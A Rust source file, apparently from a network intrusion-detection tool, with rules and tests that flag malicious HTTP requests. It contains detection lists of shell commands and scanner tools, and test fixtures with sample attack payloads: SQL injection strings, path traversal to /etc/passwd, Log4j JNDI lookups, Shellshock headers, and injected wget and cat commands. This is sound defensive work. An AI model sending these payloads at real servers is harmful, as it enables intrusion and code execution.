//! Rules about requests over HTTP.

use super::{
    observation::Payload,
    payload::tell,
    report::Turn,
    request::Request,
    rule::Rule,
    sql,
    text::{lower, readings},
    traversal,
};

/// Looks at a request.
pub(super) fn observe(turn: &mut Turn<'_>, payload: &Payload<'_>, request: &Request<'_>) {
    let method = request.method;
    if let Some(kind) =
        request.parameters().chain([request.path]).flat_map(readings).find_map(|text| sql::injected(&text))
    {
        tell(turn, Rule::SqlInjection, payload, format_args!("{method}: {kind}"));
    }
    if let Some(kind) = traversal::climbs(request) {
        tell(turn, Rule::PathTraversal, payload, format_args!("{method}: {kind}"));
    }
    if let Some(kind) = code(request) {
        tell(turn, Rule::CodeInjection, payload, format_args!("{method}: {kind}"));
    }
    if let Some(tool) = scanner(request) {
        tell(turn, Rule::ScannerTool, payload, format_args!("User-Agent: {tool}"));
    }
}

/// Returns what kind of code a request carries.
fn code(request: &Request<'_>) -> Option<&'static str> {
    let in_target = request
        .parameters()
        .chain([request.path])
        .flat_map(readings)
        .find_map(|text| lookup(&text).or_else(|| is_command(&text).then_some("shell command")));
    in_target.or_else(|| {
        request.headers().find_map(|line| {
            let text = lower(line);
            let (_, value) = text.split_once(':')?;
            let is_function = value.trim_start().starts_with("() {") && value.contains(';');
            lookup(&text).or_else(|| is_function.then_some("shell function in a header"))
        })
    })
}

/// Looks for what makes Log4j fetch and run code, in the open or in pieces.
fn lookup(text: &str) -> Option<&'static str> {
    let is_hidden = || HIDDEN_LOOKUPS.iter().any(|start| text.contains(start));
    (text.contains("${jndi:") || is_hidden()).then_some("lookup of Log4j")
}

/// Looks for a command that follows a sign which ends another one.
fn is_command(text: &str) -> bool {
    SEPARATORS.iter().flat_map(|separator| text.match_indices(separator)).any(|(at, separator)| {
        let after = text.get(at + separator.len()..).unwrap_or_default().trim_start();
        let (word, rest) = after.split_at(after.find(['/', ' ', '$']).unwrap_or(after.len()));
        COMMANDS.contains(&word) && rest.starts_with([' ', '$'])
            || after.strip_prefix("/bin/").is_some_and(|rest| COMMANDS.iter().any(|command| rest.starts_with(command)))
    })
}

fn scanner(request: &Request<'_>) -> Option<&'static str> {
    let agent = lower(request.header("user-agent")?);
    SCANNERS.iter().copied().find(|tool| agent.contains(tool))
}

const HIDDEN_LOOKUPS: &[&str] = &["${${", "${::-", "${lower:", "${upper:"];
const SEPARATORS: &[&str] = &[";", "|", "`", "$(", "&&", "\n"];
const COMMANDS: &[&str] = &["bash", "busybox", "cat", "chmod", "curl", "nc", "ping", "sh", "tftp", "wget"];
const SCANNERS: &[&str] = &[
    "(hydra)",
    "acunetix",
    "arachni",
    "commix",
    "dirbuster",
    "dirsearch",
    "feroxbuster",
    "fuzz faster u fool",
    "gobuster",
    "havij",
    "jorgee",
    "l9explore",
    "l9tcpid",
    "masscan",
    "muieblackcat",
    "nessus",
    "netsparker",
    "nikto",
    "nmap scripting engine",
    "nuclei",
    "openvas",
    "sqlmap",
    "w3af",
    "wfuzz",
    "whatweb",
    "wpscan",
    "zgrab",
    "zmeu",
];

#[cfg(test)]
mod tests {
    use crate::rules::Observation;
    use crate::rules::testing::{Bench, found_in_payload, is_only, payload};

    fn found(request: &str) -> Vec<(String, String)> {
        found_in_payload(8080, request.as_bytes())
    }

    #[test]
    fn attacks_in_requests_are_told_by_kind() {
        for (request, id, evidence) in [
            ("GET /p?id=1%20UNION%20SELECT%201,2 HTTP/1.1\r\n", "sql_injection", "GET: union select"),
            (
                "GET /p?id=1%2527%2520or%25201%253D1--%2520 HTTP/1.1",
                "sql_injection",
                "GET: condition that is always true or false",
            ),
            ("GET /p/1'%20or%20'1'='1 HTTP/1.1\r\n", "sql_injection", "GET: condition that is always true or false"),
            ("POST /p HTTP/1.1\r\nHost: h\r\n\r\nuser=admin'--&x=1", "sql_injection", "POST: quote and comment"),
            ("GET /..%2f..%2fetc/passwd HTTP/1.1\r\n", "path_traversal", "GET: path above its root"),
            ("GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://x/a}\r\n", "code_injection", "GET: lookup of Log4j"),
            ("GET /?x=$%7B$%7Blower:j%7Dndi:ldap://x%7D HTTP/1.1\r\n", "code_injection", "GET: lookup of Log4j"),
            ("GET / HTTP/1.1\r\nCookie: () { :;}; echo x\r\n", "code_injection", "GET: shell function in a header"),
            ("GET /cgi?ip=1;wget+http://h/x HTTP/1.1\r\n", "code_injection", "GET: shell command"),
            ("GET /cgi?ip=1%7C/bin/cat$IFS/x HTTP/1.1\r\n", "code_injection", "GET: shell command"),
            ("GET / HTTP/1.1\r\nUser-Agent: sqlmap/1.7\r\n", "scanner_tool", "User-Agent: sqlmap"),
            (
                "GET / HTTP/1.1\r\nuser-agent: Mozilla/5.0 (compatible; Nmap Scripting Engine)\r\n",
                "scanner_tool",
                "User-Agent: nmap scripting engine",
            ),
        ] {
            assert_eq!(found(request), [(id.to_owned(), evidence.to_owned())], "{request}");
        }
    }

    #[test]
    fn ordinary_requests_are_passed_over() {
        for request in [
            "GET / HTTP/1.1\r\nHost: h\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\n\r\n",
            "GET /search?q=what+is+sqlmap%3B+nikto HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\n",
            "POST /p HTTP/1.1\r\nContent-Type: text/plain\r\n\r\nname=O'Reilly&note=black or white",
            "GET /price?a=$5&b=${x} HTTP/1.1\r\nCookie: a=b; cat=1; sh=2\r\n",
            "GET /a;cat=1/b|c?x=y;sh HTTP/1.1\r\n",
            "HTTP/1.1 200 OK\r\n\r\n' or 1=1 --",
            "\x16\x03\x01 ' or 1=1 --",
        ] {
            assert_eq!(found(request), [], "{request}");
        }
    }

    #[test]
    fn only_the_first_bytes_count() {
        let request = format!("GET /{}?id=1+or+1=1 HTTP/1.1\r\n", "a".repeat(260));

        assert_eq!(found(&request), []);
    }

    #[test]
    fn rules_that_are_off_and_clients_that_are_allowed_are_passed_over() {
        let bytes = b"GET /?id=1+or+1=1 HTTP/1.1\r\nUser-Agent: sqlmap\r\n";
        for settings in ["[sql_injection]\nenabled = false", "[sql_injection]\nallow = ['192.0.2.0/24']"] {
            let found = Bench::new(settings).see(Observation::Payload(payload(80, bytes)));

            assert!(found.iter().map(|finding| &*finding.rule).eq(["scanner_tool"]), "{settings}");
        }
        assert!(is_only(&found("GET /?id=1+or+1=1"), "sql_injection"));
    }
}
